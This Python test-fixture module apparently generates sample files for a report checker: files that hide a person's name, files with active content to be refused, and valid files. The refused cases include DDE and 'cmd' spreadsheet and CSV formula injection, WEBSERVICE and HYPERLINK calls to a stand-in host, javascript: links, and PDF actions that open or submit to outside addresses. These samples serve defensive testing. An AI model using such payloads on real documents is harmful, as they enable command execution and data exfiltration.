"""Files of all formats: with withheld words in each place of a format, of refused kinds, and valid ones."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image

from altreport.resources import template_folder

NAME, SHORT, TALE = "Māia Núñez", "Ngā", "Māia Núñez lives in a blue house"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def zipped(files: dict[str, bytes], comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        archive.comment = comment
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def png(*chunks: tuple[bytes, bytes], after: bytes = b"", **saved: object) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (4, 4)).save(stream, "PNG", **saved)
    data = stream.getvalue()
    made = b"".join(struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content)) for kind, content in chunks)
    return data[:33] + made + data[33:] + after


def jpeg(*segments: tuple[int, bytes], after: bytes = b"", **saved: object) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (4, 4)).save(stream, "JPEG", **saved)
    data = stream.getvalue()
    made = b"".join(bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content for marker, content in segments)
    return data[:2] + made + data[2:] + after


def word(body: str) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>".encode()})


def sheet(cells: str) -> bytes:
    """A workbook with one sheet."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": f"<worksheet xmlns='{space}'>{cells}</worksheet>".encode()})


def pdf(content: bytes, *, more: bytes = b"", font: bytes = b"/Encoding /WinAnsiEncoding", info: str = "", packed: bool = True) -> bytes:
    """A PDF of one page; `more` are further objects, numbered from 6."""
    stream = zlib.compress(content) if packed else content
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(stream), b" /Filter /FlateDecode" if packed else b"", stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >>" % font,
        *([more] if more else []),
    ]
    data, offsets = b"%PDF-1.7\n", []
    for number, held in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    said = f" /Info << /Title ({info}) >>".encode("latin-1") if info else b""
    trailer = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n"
    return data + trailer % (len(objects) + 1, table, len(objects) + 1, said, len(data))


SHOWN = b"BT /F1 12 Tf 20 200 Td (%s) Tj ET"
B64 = base64.b64encode(TALE.encode()).decode()
HTML64 = base64.b64encode("<p>M&#257;ia N&uacute;<b>ñe</b>z</p>".encode()).decode()

LEAKS: dict[str, tuple[str, bytes]] = {
    "UTF-16 with a mark": ("notes.txt", TALE.encode("utf-16")),
    "UTF-16 the other way": ("notes.txt", b"\xfe\xff" + TALE.encode("utf-16-be")),
    "UTF-32": ("notes.txt", TALE.encode("utf-32")),
    "a short word": ("page.html", "<p>We met Ngā.</p>".encode()),
    "a short word without its macron": ("page.html", b"<p>We met NGA.</p>"),
    "a short word in the address of an anchor": ("page.html", b'<p id="nga-said">x</p>'),
    "a short word in a file's name": ("photo-of-nga.html", b"<p>x</p>"),
    "a short word in camel case": ("photoOfNga2022.html", b"<p>x</p>"),
    "accents left out": ("notes.md", b"MAIA NUNEZ"),
    "accents apart": ("notes.md", "Ma\u0304ia Nu\u0301n\u0303ez".encode()),
    "doubled vowels": ("notes.md", "Maaia Núñez".encode()),
    "hyphens": ("notes.md", b"maia-nunez"),
    "underscores": ("notes.md", b"maia_nunez"),
    "camel case": ("notes.md", b"see MaiaNunez"),
    "a mailbox": ("notes.md", b"maia.nunez (at) example"),
    "in one in a file's name": ("photo-maianunez2.html", b"<p>x</p>"),
    "the order of an index": ("notes.csv", "Núñez, Māia".encode()),
    "invisible characters": ("page.html", "<p>Mā\u200bia Nú\u00adñez</p>".encode()),
    "letters of another width": ("page.html", "<p>Ｍａｉａ Nuñez</p>".encode()),
    "tags within words": ("page.html", "<p>M<b>ā</b>ia Nú<i>ñ</i>ez</p>".encode()),
    "entities": ("page.html", b"<p>M&#x101;ia N&uacute;&ntilde;ez</p>"),
    "entities of entities": ("page.html", b"<p>M&amp;#257;ia N&amp;uacute;&amp;ntilde;ez</p>"),
    "a template": ("page.html", "<template><p>Māia Núñez</p></template>".encode()),
    "a comment that is none": ("page.html", "<p>x</p><?php Māia Núñez ?>".encode()),
    "CDATA": ("page.html", "<p>x</p><![CDATA[Māia Núñez]]>".encode()),
    "data of a script": ("page.html", rb'<script type="application/json">{"a": "M\u0101ia N\u00fa\u00f1ez"}</script>'),
    "an attribute with a page in it": ("page.html", "<iframe srcdoc='&lt;p&gt;M&lt;b&gt;ā&lt;/b&gt;ia Núñez'></iframe>".encode()),
    "an address": ("page.html", b'<a href="x.html?q=M%C4%81ia+N%C3%BA%C3%B1ez">x</a>'),
    "a data address": ("page.html", f'<a href="data:text/html;base64,{HTML64}">x</a>'.encode()),
    "a data address with per cent signs": ("page.html", b'<a href="data:text/html,%3Cp%3EM%C4%81ia%20N%C3%BA%C3%B1ez">x</a>'),
    "a data address with a blank": ("a.svg", f"<svg xmlns='http://www.w3.org/2000/svg'><rect style=\"fill: url('data:image/svg+xml;base64, {base64.b64encode('<svg><text>Māia Núñez</text></svg>'.encode()).decode()}')\"/></svg>".encode()),
    "a data address in capitals": ("own.css", f"a {{ background: url(Data:image/svg+xml;Base64,{base64.b64encode('<svg><text>Māia Núñez</text></svg>'.encode()).decode()}) }}".encode()),
    "a data address over two lines": ("own.css", f"a {{ background: url('da\n ta: image/svg+xml;base64,\n{base64.b64encode('<svg><text>Māia Núñez</text></svg>'.encode()).decode()}') }}".encode()),
    "a data address in a style sheet": ("own.css", f"a {{ background: url(data:image/svg+xml;base64,{base64.b64encode('<svg><text>Māia Núñez</text></svg>'.encode()).decode()}) }}".encode()),
    "base64 in a text": ("notes.txt", f"code: {B64}".encode()),
    "escapes of a style sheet": ("own.css", rb'a::after { content: "M\101 ia N\0000fa\0000f1 ez" }'),
    "quoted-printable": ("notes.txt", b"M=C4=81ia N=C3=BA=C3=B1ez"),
    "marks within words of Markdown": ("notes.md", "M**ā**ia N*ú*ñez".encode()),
    "escapes of Markdown": ("notes.md", r"M\āia Núñ\ez".replace("\\ā", "ā").replace("ñ\\e", "ñ&#101;").encode()),
    "braces and accents of BibTeX": ("sources.bib", rb"@book{a, author = {N{\'u}{\~n}ez, M{\=a}ia}}"),
    "escapes of JSON": ("data.json", rb'{"a": "M\u0101ia N\u00fa\u00f1ez"}'),
    "a key of JSON": ("data.json", '{"Māia Núñez": 1}'.encode()),
    "a key given twice": ("data.json", '{"a": "Māia Núñez", "a": "x"}'.encode()),
    "YAML with escapes": ("data.yml", rb'a: "M\u0101ia N\xfa\xf1ez"'),
    "tspans": ("drawing.svg", "<svg><text>M<tspan>ā</tspan>ia Nú<tspan>ñ</tspan>ez</text></svg>".encode()),
    "one text a letter": ("drawing.svg", ("<svg xmlns='http://www.w3.org/2000/svg'>" + "".join(f"<text>{c}</text>" for c in "MāiaNúñez") + "</svg>").encode()),
    "a title of a drawing": ("drawing.svg", "<svg><title>Māia Núñez</title></svg>".encode()),
    "metadata of a drawing": ("drawing.svg", "<svg><metadata><a b='Māia Núñez'/></metadata></svg>".encode()),
    "CDATA of a drawing": ("drawing.svg", "<svg><text><![CDATA[Māia]]> Núñez</text></svg>".encode()),
    "tEXt": ("picture.png", png((b"tEXt", b"Comment\0" + NAME.encode("latin-1", "ignore") + b" Maia Nunez"))),
    "zTXt": ("picture.png", png((b"zTXt", b"Comment\0\0" + zlib.compress(b"Maia Nunez")))),
    "iTXt": ("picture.png", png((b"iTXt", b"Comment\0\0\0en\0\0" + NAME.encode()))),
    "packed iTXt": ("picture.png", png((b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(NAME.encode())))),
    "a comment of JPEG": ("picture.jpg", jpeg((0xFE, NAME.encode()))),
    "a part of a Word file that is not shown": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "customXml/item1.xml": "<a>Māia Núñez</a>".encode()})),
    "the header of a workbook": ("a.xlsx", sheet("<headerFooter><oddHeader>&amp;LMāia Núñez</oddHeader></headerFooter>")),
    "escapes of a workbook": ("a.xlsx", sheet("<c t='inlineStr'><is><t>M_x0101_ia N_x00FA_ñez</t></is></c>")),
    "runs of a Word file": ("a.docx", word("<w:p><w:r><w:t>Mā</w:t></w:r><w:proofErr/><w:r><w:t>ia Núñ</w:t></w:r><w:bookmarkStart/><w:r><w:t>ez</w:t></w:r></w:p>")),
    "a setting of a Word file": ("a.docx", word('<w:sdt><w:sdtPr><w:tag w:val="Māia Núñez"/></w:sdtPr></w:sdt>')),
    "properties": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "docProps/app.xml": "<Properties><Company>Māia Núñez</Company></Properties>".encode()})),
    "a Word file in a Word file": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/embeddings/b.docx": word("<w:p><w:t>Māia Núñez</w:t></w:p>")})),
    "shared strings": ("a.xlsx", zipped({"xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": "<sst><si><r><t>Mā</t></r><r><rPr><b/></rPr><t>ia Núñez</t></r></si></sst>".encode()})),
    "a comment of an archive": ("a.zip", zipped({"a.txt": b"x"}, comment=TALE.encode())),
    "a name in an archive": ("a.zip", zipped({"Maia-Nunez.txt": b"x"})),
    "an archive in an archive": ("a.zip", zipped({"b.zip": zipped({"a.txt": TALE.encode("utf-16")})})),
    "a remark in a PDF": ("a.pdf", pdf(SHOWN % b"x").replace(b"\ntrailer", b"\n% Maia Nunez\ntrailer")),
    "packed text of a PDF": ("a.pdf", pdf(SHOWN % b"Maia Nunez")),
    "text of a PDF letter by letter": ("a.pdf", pdf(b"BT /F1 12 Tf 20 200 Td [(M) -400 (a) -400 (i) -400 (a) -400 (N) -400 (u) -400 (n) -400 (e) -400 (z)] TJ ET")),
    "the title of a PDF": ("a.pdf", pdf(SHOWN % b"x", info="M\xe1ia N\xfa\xf1ez")),
    "what is read aloud in a PDF": ("a.pdf", pdf(b"/Span << /ActualText (Maia Nunez) >> BDC BT /F1 12 Tf (x) Tj ET EMC")),
    "metadata of a PDF": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /Type /Metadata /Subtype /XML /Length 21 >>\nstream\n<a> Maia Nunez   </a>\nendstream")),
    "a note on a page": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents <FEFF004D0101006900610020004E00FA00F10065007A> >>")),
    "a heading of a PDF": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /Title (Maia Nunez) /Parent 2 0 R >>")),
}  # fmt: skip


def local_extra(data: bytes) -> bytes:
    """An archive of one file with an unknown addition to its first header."""
    size = struct.unpack_from("<H", data, 28)[0]
    name_end = 30 + struct.unpack_from("<H", data, 26)[0]
    return data[:28] + struct.pack("<H", size + 9) + data[30:name_end] + b"\xca\xfe\x05\0hello" + data[name_end:]


PNG64 = base64.b64encode(png()).decode()
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
ACTING_DRAWINGS = {
    "a link that runs": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    "a hidden link that runs": '<a href="java&#x9;script:alert(1)"><text>x</text></a>',
    "a link to a program": '<a href="search-ms:query=x"><text>x</text></a>',
    "a link to a server of files": '<a href="\\\\foreign.example\\x"><text>x</text></a>',
    "an animation of a link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "a script of another space": '<a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>',
    "a page in its metadata": '<metadata><b xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/></metadata>',
    "a handler in capitals": '<g ONCLICK="alert(1)"/>',
    "a picture of another host": '<image href="http://foreign.example/x.png"/>',
    "a symbol of another host": '<use xlink:href="//foreign.example/x.svg#a"/>',
    "a style of another host": '<style>@import "http://foreign.example/x.css";</style>',
    "a style with escapes": r"<style>a { fill: u\72l(http://foreign.example/x) }</style>",
    "a font of another host": '<style>@font-face { font-family: a; src: url("https://foreign.example/x") }</style>',
    "a colour of another host": '<path fill="url(http://foreign.example/x#a)"/>',
    "a style attribute of another host": '<path style="fill: URL( //foreign.example/x#a )"/>',
    "a base elsewhere": '<g xml:base="http://foreign.example/"><image href="x.png"/></g>',
    "an element that nobody knows": "<audio/>",
}


def related(kind: str, target: str, mode: str) -> bytes:
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = f'<Relationships><Relationship Id="a" Type="{of}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/_rels/document.xml.rels": links})


def workbook(formula: str) -> bytes:
    sheet = f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()
    return zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet})


def field(*codes: str, kind: str = "begin") -> str:
    """A field whose code is in pieces; a piece that is a field stays as it is."""
    runs = (code if code.startswith("<w:r>") else f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    marks = [f'<w:r><w:fldChar w:fldCharType="{name}"/></w:r>' for name in (kind, "end")]
    return "".join([marks[0], *runs, marks[1]])


EXTERNAL = ' TargetMode="External"'
ACTING_FIELDS = {
    "a program": field(" DDEAUTO c:\\\\x "),
    "a program in pieces": field(" DD", "EAUTO c:\\\\x "),
    "a program in a simple field": '<w:fldSimple w:instr=" DDE x "/>',
    "a program in strict form": '<a:fldSimple xmlns:a="http://purl.oclc.org/ooxml/wordprocessingml/main" a:instr="DDE x"/>',
    "a name that a field writes": field(field(' QUOTE "DDEAUTO" '), " c:\\\\x "),
    "a field that never ends": '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r>',
    "a macro that is pressed": field(" MACROBUTTON x y "),
    "a picture elsewhere": field(' INCLUDEPICTURE "http://foreign.example/x.png" \\d '),
    "a link in a field": field(' HYPERLINK "search-ms:query=x" '),
    "a link after a tip": field(' HYPERLINK \\o "Tip" \\t "_blank" "file://foreign.example/x" '),
    "a link that a field writes": field(" HYPERLINK ", field(' QUOTE "javascript:x" ')),
    "another document": '<w:altChunk r:id="a" xmlns:r="r"/>',
    "a film": '<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/>',
    "a drawing elsewhere": '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://foreign.example/x.png"/>',
    "a drawing that leads": '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="ms-word:ofe|u|http://x"/>',
}
ACTING_RELATIONS = {
    "a link to a program": ("hyperlink", "ms-word:ofe|u|http://x", EXTERNAL),
    "a link that runs": ("hyperlink", "javascript:alert(1)", EXTERNAL),
    "a link to a file": ("hyperlink", "file:///c:/x.exe", EXTERNAL),
    "a template elsewhere": ("attachedTemplate", "https://foreign.example/x.dotm", EXTERNAL),
    "a picture of another host": ("image", "https://foreign.example/x.png", EXTERNAL),
    "one that says nothing of it": ("image", "https://foreign.example/x.png", ""),
    "an object": ("oleObject", "embeddings/a.bin", ""),
    "a frame": ("frame", "a.xml", ""),
    "what nobody knows": ("whatever", "a.xml", ""),
}
ACTING_FORMULAS = ('HYPERLINK("search-ms:x","y")', '_xlfn.WEBSERVICE("http://foreign.example")', "cmd|'/c x'!A0", "BYROW(A1:A2,_xlfn.WEBSERVICE)")
OPEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S %s >> >>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S %s >> >>"
ACTING_PDFS = {
    "an address that it opens": OPEN % b"/URI /URI (http://foreign.example/x)",
    "a form that it sends": OPEN % b"/SubmitForm /F (http://foreign.example/x)",
    "a file that it opens": OPEN % rb"/GoToR /F (\\\\foreign\\x.pdf) /D [0 /Fit]",
    "a second action": OPEN % b"/GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://foreign.example/x) >>",
    "an action that nobody knows": OPEN % b"/Whatever",
    "what happens by itself": b"<< /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
    "a link that runs": LINK % b"/URI /URI (javascript:alert(1))",
    "a link to a file": LINK % b"/URI /URI (file:///c:/x)",
    "a menu of its program": LINK % b"/Named /N /Print",
    "a film": b"<< /Type /Annot /Subtype /Screen >>",
    "a stream elsewhere": b"<< /Length 0 /F (x.bin) >>",
    "a page elsewhere": b"<< /Ref << /F << /FS /URL /F (http://foreign.example/x) >> /Page 0 >> >>",
}

PACKED = zipped({"a.txt": b"x" * 100})
EXIF = Image.Exif()
EXIF[0x0110] = "A camera"

REFUSED: dict[str, tuple[str, bytes, str]] = {
    "UTF-16 without a mark": ("a.txt", TALE.encode("utf-16-le"), "UTF-8|no text has"),
    "Latin-1": ("a.txt", "Núñez".encode("latin-1"), "UTF-8"),
    "Windows-1252": ("a.csv", "“Núñez”".encode("cp1252"), "UTF-8"),
    "a text with bytes in it": ("a.md", b"text\0\1\2", "does not belong in text"),
    "HTML in Latin-1": ("a.html", "<p>Núñez".encode("latin-1"), "UTF-8"),
    "XML that says it is in something else": ("a.svg", b"<?xml version='1.0' encoding='utf-7'?><svg/>", "utf-7"),
    "XML with entities": ("a.svg", b"<!DOCTYPE svg [<!ENTITY e 'x'>]><svg>&e;</svg>", "entities"),
    "XML that ends early": ("a.svg", b"<svg><text>x", "not valid XML"),
    "a drawing with a script": ("a.svg", b"<svg><script>1</script></svg>", "script"),
    "a drawing that runs": ("a.svg", b"<svg onload='x'/>", "script"),
    "a drawing with a page": ("a.svg", b"<svg><foreignObject/></svg>", "another document"),
    **{f"a drawing with {what}": ("a.svg", f"<svg {NS}>{drawn}</svg>".encode(), "can run a script") for what, drawn in ACTING_DRAWINGS.items()},
    "a drawing with a style sheet of another host": ("a.svg", f'<?xml-stylesheet href="http://foreign.example/x.css"?><svg {NS}/>'.encode(), "can run a script"),
    "a drawing that declares an attribute": ("a.svg", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {NS}/>'.encode(), "declares its own"),
    "a page that is called XML": ("a.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>', "can run a script"),
    "a drawing in XML": ("a.xml", f"<a><svg {NS}><script/></svg></a>".encode(), "can run a script"),
    "a transformation": ("a.xml", b"<?xml-stylesheet href='a.xsl'?><a/>", "can run a script"),
    "a document for another program": ("a.xml", b'<?mso-application progid="Word.Document"?><a/>', "can run a script"),
    **{f"a Word file with {what}": ("a.docx", word(f"<w:p>{body}</w:p>"), "Word|link|fetch|load") for what, body in ACTING_FIELDS.items()},
    **{f"a Word file with {what}": ("a.docx", related(kind, target, mode), "Word|link|fetch|load") for what, (kind, target, mode) in ACTING_RELATIONS.items()},
    **{f"a workbook with {formula}": ("a.xlsx", workbook(formula), "formula") for formula in ACTING_FORMULAS},
    "a table that runs a program": ("a.csv", b"a,b\n1,=cmd|'/c x'!A0\n", "formula"),
    "a table that asks a server": ("a.tsv", b'a\t"=HYPERLINK(""http://foreign.example/""&A1,""x"")"\n', "formula"),
    "a table with a sum that is none": ("a.csv", b"a;+1+WEBSERVICE(A1)\n", "formula"),
    **{f"a PDF with {what}": ("a.pdf", pdf(SHOWN % b"x", more=more), "part|link") for what, more in ACTING_PDFS.items()},
    "JSON that ends early": ("a.json", b'{"a": ', "not valid JSON"),
    "two JSON values": ("a.json", b"{} {}", "not valid JSON"),
    "a script": ("a.js", b"var a", "script"),
    "a script that has a JSON": ("search_index.js", b"var __index = {}; alert(1)", "script"),
    "a font": ("a.woff2", b"wOF2", "font"),
    "a map": ("a.css.map", b"{}", "map"),
    "gzip": ("a.txt.gz", gzip.compress(b"x"), "format that cannot be searched"),
    "a packed drawing": ("a.svgz", gzip.compress(b"<svg/>"), "format that cannot be searched"),
    "a GIF": ("a.gif", b"GIF89a", "format that cannot be searched"),
    "WebP": ("a.webp", b"RIFF", "format that cannot be searched"),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0", "format that cannot be searched"),
    "OpenDocument": ("a.odt", PACKED, "format that cannot be searched"),
    "RTF": ("a.rtf", b"{\\rtf1", "format that cannot be searched"),
    "no ending": ("README", b"x", "format that cannot be searched"),
    "another name": ("a.png", jpeg(), "not a PNG"),
    "a picture that is a page": ("a.jpg", b"<html>", "not a JPEG"),
    "a text that is an archive": ("a.txt", PACKED, "UTF-8|no text has"),
    "a style sheet that asks a share": ("own.css", b"a { background: url(//foreign.example/share/x.png) }", "another computer"),
    "a style sheet that asks in escapes": ("own.css", rb"a { background: \75 r\6C(h\74tps://foreign.example/x.png) }", "another computer"),
    "a style sheet that imports": ("own.css", b"@import 'https://foreign.example/x.css';", "another computer"),
    "a style sheet that imports behind a remark": ("own.css", b"/* x */@im/* y */port url(//foreign.example/x.css);a { b: url('file://foreign.example/x') }", "another computer"),
    "an archive of a Mac": ("a.zip", zipped({"a.txt": b"x", "__MACOSX/._a.txt": b"\0\5\x16\7"}), "Mac"),
    "an archive that is a text": ("a.zip", b"x", "not a valid ZIP"),
    "a PDF that is a page": ("a.pdf", b"<html>", "not a PDF"),
    "a ZIP that says it is a Word file": ("a.docx", PACKED, "part of an office file|not a Word or Excel file"),
    "bytes after a PNG": ("a.png", png(after=b"x"), "after the end"),
    "an archive after a PNG": ("a.png", png(after=PACKED), "after the end"),
    "an unknown chunk": ("a.png", png((b"prVt", b"x")), "not picture data"),
    "EXIF in a PNG": ("a.png", png(exif=EXIF), "not picture data"),
    "XMP in a PNG": ("a.png", png((b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x/>")), "who made it"),
    "an author in a PNG": ("a.png", png((b"tEXt", b"Author\0x")), "who made it"),
    "a profile in a PNG": ("a.png", png((b"iCCP", b"x\0\0" + zlib.compress(b"x"))), "not picture data"),
    "a damaged chunk": ("a.png", png()[:-5] + b"12345", "damaged"),
    "a PNG that ends early": ("a.png", png()[:-12], "damaged"),
    "dots that are not shown": ("a.png", png((b"IDAT", zlib.compress(b"x"))), "after its compressed part|after the end"),
    "EXIF in a JPEG": ("a.jpg", jpeg(exif=EXIF), "EXIF"),
    "XMP in a JPEG": ("a.jpg", jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0<x/>")), "XMP"),
    "IPTC": ("a.jpg", jpeg((0xED, b"Photoshop 3.0\x008BIM")), "IPTC"),
    "further pictures": ("a.jpg", jpeg((0xE2, b"MPF\0")), "further pictures"),
    "a thumbnail": ("a.jpg", jpeg((0xE0, b"JFXX\0\x10")), "not picture data"),
    "bytes after a JPEG": ("a.jpg", jpeg(after=b"x"), "after the end"),
    "a JPEG after a JPEG": ("a.jpg", jpeg(after=jpeg()), "after the end"),
    "a comment in Latin-1": ("a.jpg", jpeg((0xFE, "Núñez".encode("latin-1"))), "comment"),
    "a JPEG that ends early": ("a.jpg", jpeg()[:-2], "damaged"),
    "bytes before an archive": ("a.zip", b"x" + PACKED, "belong to none"),
    "bytes after an archive": ("a.zip", PACKED + b"x", "not a valid ZIP|belong to none"),
    "bytes between the files": ("a.zip", zipped({"a.txt": b"x"})[:36] + b"xx" + zipped({"a.txt": b"x"})[36:], "ZIP|belong|listed|damaged"),
    "an addition to a header": ("a.zip", local_extra(PACKED), "additions|ZIP|belong"),
    "a password": ("a.zip", PACKED.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01").replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"), "password"),
    "another way to pack": ("a.zip", zipped({"a.txt": b"x"}, method=zipfile.ZIP_LZMA), "compressed in an unknown way"),
    "half an archive": ("a.zip", PACKED[:45], "not a valid ZIP"),
    "an embedded font": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/fonts/a.odttf": b"x"}), "part of an office file"),
    "an old drawing": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/media/a.emf": b"x"}), "part of an office file"),
    "a macro": ("a.docx", zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/vbaProject.bin": b"x"}), "part of an office file"),
    "bytes after a PDF": ("a.pdf", pdf(SHOWN % b"x") + b"% Maia", "bytes outside its parts"),
    "an older version of a PDF": ("a.pdf", pdf(SHOWN % b"x").replace(b"xref\n0", b"4 0 obj\n(x)\nendobj\nxref\n0", 1), "bytes outside its parts|damaged"),
    "a PDF that runs": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /S /JavaScript /JS (x) >>"), "can run"),
    "a file in a PDF": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"), "can run|file"),
    "a font without letters": ("a.pdf", pdf(SHOWN % b"x", font=b"/Encoding << /Differences [32 /g1 /g2] >>"), "which letters"),
    "half a PDF": ("a.pdf", pdf(SHOWN % b"x")[:200], "damaged|belong"),
    "a data address of another format": ("a.html", b'<a href="data:application/octet-stream;base64,AAAA">x</a>', "format that cannot be searched"),
    "a picture in an address": ("a.html", f'<img src="data:image/png;base64,{base64.b64encode(png(after=b"x")).decode()}">'.encode(), "after the end"),
}  # fmt: skip


def _signed(creator: str) -> bytes:
    """A drawing that says who made it."""
    spaces = "xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:cc='http://creativecommons.org/ns#'"
    return f"<svg xmlns='http://www.w3.org/2000/svg' {spaces}><metadata><dc:creator>{creator}</dc:creator></metadata></svg>".encode()


SOUND: dict[str, tuple[str, bytes]] = {
    "a text with a mark": ("a.txt", "\ufefftext".encode()),
    "a picture": ("a.png", png()),
    "a picture with the name of its program": ("a.png", png((b"tEXt", b"Software\0Matplotlib"))),
    "a photograph": ("a.jpg", jpeg()),
    "a progressive photograph": ("a.jpeg", jpeg(progressive=True)),
    "an archive": ("a.zip", zipped({"a.txt": b"x", "b/": b"", "b/c.json": b"{}"})),
    "an empty archive": ("a.zip", zipped({})),
    "a stored archive": ("a.zip", zipped({"a.txt": b"x"}, method=zipfile.ZIP_STORED)),
    "a PDF": ("a.pdf", pdf(SHOWN % b"Hello")),
    "a plain PDF": ("a.pdf", pdf(SHOWN % b"Hello", packed=False)),
    "a drawing of a program": ("a.svg", _signed("<cc:Agent><dc:title>Matplotlib v3.10.1, https://matplotlib.org/</dc:title></cc:Agent>")),
    "a drawing with an empty creator": ("a.svg", _signed("<cc:Agent><dc:title></dc:title></cc:Agent>")),
    "a drawing of the submitters": ("a.svg", _signed("An organisation")),
    "a style sheet": ("own.css", b"a { color: red }"),
    "a style sheet with signs and a picture": ("own.css", rb'a::after { content: "\201C" } b { background: url("logo.png") }'),
    "a drawing": ("a.svg", b"<?xml version='1.0' encoding='utf-8'?>\n<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'x.dtd'>\n<svg><path d='M 1 2'/></svg>"),
    "a drawing as Matplotlib and Inkscape make it": ("a.svg", f"""<?xml version="1.0"?><svg {NS} xmlns:i="http://www.inkscape.org/namespaces/inkscape">
      <metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:a r:resource="http://purl.org/x"/></r:RDF></metadata><i:grid/>
      <defs><style type="text/css">*{{stroke-linejoin: round}} a {{ clip-path: url(#c); font-family: "Open Sans" }}</style><clipPath id="c"/></defs>
      <g clip-path="url(#c)" transform="rotate(2)" style="fill: url('#c')"><use xlink:href="#c"/><a href="https://example.org/"><text>x</text></a><image xlink:href="data:image/png;base64,{PNG64}"/></g></svg>""".encode()),
    "a Word file with fields and links": ("a.docx", word("<w:p>" + field(" PAGE ") + field(' TOC \\o "1-3" \\h ') + field(' HYPERLINK \\l "_Toc1" \\o "Tip: a" ') + field(' HYPERLINK "https://example.org/a?b" ') + field(" IF ", field(" PAGE "), ' = 1 "a" "b" ') + field(" = ", field(" PAGE "), " - 1 ") + field(" ADDIN ZOTERO_ITEM CSL_CITATION {} ") + "</w:p>")),
    "a Word file with a link": ("a.docx", related("hyperlink", "https://example.org/a b", EXTERNAL)),
    "a Word file with a heading's address": ("a.docx", related("hyperlink", "#heading=h.1", EXTERNAL)),
    "a table that counts": ("a.csv", b"name,share\n-5,+64 4 123\n@someone,=SUM(A1)\n-,a | b!\nsee image (1),-\n"),
    "a workbook that counts": ("a.xlsx", workbook('SUM(A1:A2)&amp;IF(A3="image | call!",1,2)')),
    "a PDF that opens at a page": ("a.pdf", pdf(SHOWN % b"x", more=OPEN % b"/GoTo /D [3 0 R /Fit]")),
    "a PDF with a link": ("a.pdf", pdf(SHOWN % b"x", more=LINK % b"/URI /URI (https://example.org/a)")),
    "a PDF with the structure of its text": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /S /Link /A << /O /Layout /Placement /Block >> /F 4 >>")),
    "an index": ("search_index.js", b'var __index = {"docs": []};'),
    "our own script": ("altreport.js", (template_folder() / "site/assets/altreport.js").read_bytes()),
}  # fmt: skip

